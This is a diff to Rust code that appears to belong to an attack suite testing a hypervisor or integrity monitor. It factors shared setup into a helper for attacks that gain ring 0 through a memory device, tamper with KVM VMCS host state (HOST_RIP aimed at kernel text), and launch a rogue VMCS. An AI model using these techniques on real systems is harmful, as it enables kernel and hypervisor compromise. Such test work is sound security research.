@@ -527,21 +527,31 @@ fn kvm_l2_vmfunc() -> Result<(), String> {
 /// The VMCS field encoding of HOST_RIP (SDM appendix B.4.4).
 const HOST_RIP: u64 = 0x6c16;
 
-fn kvm_host_state(cmdline: &str) -> Result<(), String> {
-    let k = Kernel::learn()?;
-    let mem = open_mem()?;
-    let ring0 = enter_ring0(&k, &mem)?;
-    let (probe, _windows, _found) = match probe_with_vmcs(&mem, monitor_address(cmdline)?) {
-        Ok(p) => p,
+/// The ring-0 foothold, then the probe started and its vCPU's VMCS made: KVM_CREATE_VCPU leaves it
+/// current on this (the only) CPU, its host state written, and is given the time to finish (the
+/// region appears before). The foothold is undone if the probe cannot be started.
+fn ring0_beside_probe(
+    k: &Kernel,
+    mem: &File,
+    cmdline: &str,
+) -> Result<(Ring0, std::process::Child), String> {
+    let ring0 = enter_ring0(k, mem)?;
+    let probe = match monitor_address(cmdline).and_then(|m| probe_with_vmcs(mem, m)) {
+        Ok((probe, _windows, _found)) => probe,
         Err(e) => {
-            ring0.leave(&mem)?;
+            ring0.leave(mem)?;
             return Err(e);
         }
     };
-    // KVM_CREATE_VCPU leaves the vCPU's VMCS current on this (the only) CPU, its host state
-    // written: give it the time to finish (the region appears before), then VMWRITE to it, again
-    // while there is no current VMCS yet (VMfailInvalid).
     std::thread::sleep(std::time::Duration::from_millis(20));
+    Ok((ring0, probe))
+}
+
+fn kvm_host_state(cmdline: &str) -> Result<(), String> {
+    let k = Kernel::learn()?;
+    let mem = open_mem()?;
+    // The VMWRITE is tried again while there is no current VMCS yet (VMfailInvalid).
+    let (ring0, probe) = ring0_beside_probe(&k, &mem, cmdline)?;
     let evil = k.text_va;
     let mut rflags = u64::MAX;
     for _ in 0..50 {
@@ -588,16 +598,7 @@ fn kvm_rogue_vmcs(cmdline: &str) -> Result<(), String> {
     let (region, frame) = locked_page()?;
     // SAFETY: the page is this process's, writable; the first word of a VMCS region.
     unsafe { region.cast::<u32>().write_volatile(revision) };
-    let ring0 = enter_ring0(&k, &mem)?;
-    let (probe, _windows, _found) = match probe_with_vmcs(&mem, monitor_address(cmdline)?) {
-        Ok(p) => p,
-        Err(e) => {
-            ring0.leave(&mem)?;
-            return Err(e);
-        }
-    };
-    // As for the host-state attack: KVM_CREATE_VCPU has made its VMCS current by now.
-    std::thread::sleep(std::time::Duration::from_millis(20));
+    let (ring0, probe) = ring0_beside_probe(&k, &mem, cmdline)?;
     say(&format!(
         "ihmi-attack: launching a VMCS of my own at {frame:#x} (revision {revision:#x}) from ring 0"
     ));
